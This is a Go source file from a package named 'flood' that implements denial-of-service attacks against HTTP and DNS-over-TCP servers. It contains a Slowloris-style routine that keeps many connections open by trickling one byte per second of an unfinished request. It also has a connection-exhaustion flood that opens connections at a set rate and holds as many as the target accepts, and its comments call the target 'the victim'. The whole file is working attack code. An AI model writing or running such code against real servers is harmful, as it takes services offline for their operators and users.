package flood

import (
	"context"
	"net"
	"sync"
	"time"
)

// slowPause is how often a slow client sends a byte.
const slowPause = time.Second

// slowStart is what a slow client never finishes: the head of a request, or a
// message of 65,535 bytes over TCP (RFC 1035, section 4.2.2).
func (a *attack) slowStart() (begin string, rest byte) {
	if a.Protocol == DNS {
		return "\xff\xff", 0
	}
	return "GET / HTTP/1.1\r\nHost: slow\r\nX-Slow: ", 'z'
}

// slow holds connections, and sends a byte on each of them now and then.
func slow(ctx context.Context, a *attack) error {
	var clients sync.WaitGroup
	for range a.Conns {
		clients.Go(func() {
			for ctx.Err() == nil {
				a.crawl(ctx)
				wait(ctx, slowPause) // one that was refused comes back
			}
		})
	}
	clients.Wait()
	return nil
}

// crawl is one slow client, until it is sent away.
func (a *attack) crawl(ctx context.Context) {
	conn := a.dial(ctx)
	if conn == nil {
		return
	}
	defer reset(conn)
	begin, rest := a.slowStart()
	if _, err := conn.Write([]byte(begin)); err != nil {
		return
	}
	a.sent.Add(1)
	for wait(ctx, slowPause) {
		if _, err := conn.Write([]byte{rest}); err != nil {
			return
		}
	}
}

// wait waits; false when ctx has ended.
func wait(ctx context.Context, d time.Duration) bool {
	select {
	case <-ctx.Done():
		return false
	case <-time.After(d):
		return true
	}
}

// connections opens connections at the attack's rate, holds as many as it may and
// resets the oldest then. At most maxDials are being opened at a time.
func connections(ctx context.Context, a *attack) error {
	const maxDials = 256
	held := make(chan net.Conn, a.Conns)
	slots := make(chan struct{}, maxDials)
	var dials sync.WaitGroup
	a.pace(ctx, func() {
		select {
		case slots <- struct{}{}:
		default:
			return // the victim takes no more
		}
		dials.Go(func() {
			defer func() { <-slots }()
			if conn := a.dial(ctx); conn != nil {
				a.sent.Add(1)
				hold(held, conn)
			}
		})
	})
	dials.Wait()
	close(held)
	for conn := range held {
		reset(conn)
	}
	return nil
}

// hold keeps a connection in place of the oldest.
func hold(held chan net.Conn, conn net.Conn) {
	for {
		select {
		case held <- conn:
			return
		default:
		}
		select {
		case oldest := <-held:
			reset(oldest)
		default:
		}
	}
}
